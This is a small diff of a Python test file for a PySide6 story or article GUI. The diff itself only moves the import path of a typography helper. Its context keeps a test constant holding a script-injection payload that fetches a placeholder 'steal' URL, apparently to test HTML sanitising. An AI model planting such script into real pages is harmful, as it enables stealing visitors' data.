@@ -15,7 +15,7 @@ from PySide6.QtGui import QTextDocument
 
 from gui.main_window import MainWindow
 from gui.models.story_model import QuoteRole
-from gui.views.article.typography import typographic
+from gui.story.typography import typographic
 from tests.helpers import open_and_wait
 
 SCRIPT = '<script>fetch("http://example.com/steal")</script>'
